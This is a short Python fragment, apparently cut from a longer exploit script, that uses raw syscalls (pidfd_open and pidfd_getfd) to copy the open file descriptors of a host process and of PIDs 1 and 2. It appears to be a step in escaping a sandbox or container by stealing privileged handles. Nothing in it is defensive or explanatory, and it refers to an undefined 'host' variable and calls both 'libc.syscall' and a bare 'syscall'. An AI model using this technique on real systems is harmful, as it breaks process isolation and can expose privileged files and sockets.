# Takes descriptors of other processes by pidfd_getfd.
for pid in (host["pid"], 1, 2):
    file = libc.syscall(434, pid, 0)
    if file >= 0:
        for number in range(8):
            syscall(438, file, number, 0)
